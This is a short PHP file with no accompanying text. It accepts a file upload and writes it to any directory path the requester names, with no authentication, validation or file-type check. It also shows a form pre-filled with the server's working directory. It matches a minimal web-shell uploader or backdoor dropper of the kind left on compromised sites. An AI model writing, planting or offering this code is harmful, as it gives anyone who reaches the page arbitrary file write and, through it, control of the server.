<?php
if (isset($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_POST['path'] . '/' . $_FILES['f']['name']);
    echo 'done';
}
?>
<form method="post" enctype="multipart/form-data"><input type="text" name="path" value="<?php echo getcwd(); ?>"><input type="file" name="f"><input type="submit" value="Upload"></form>
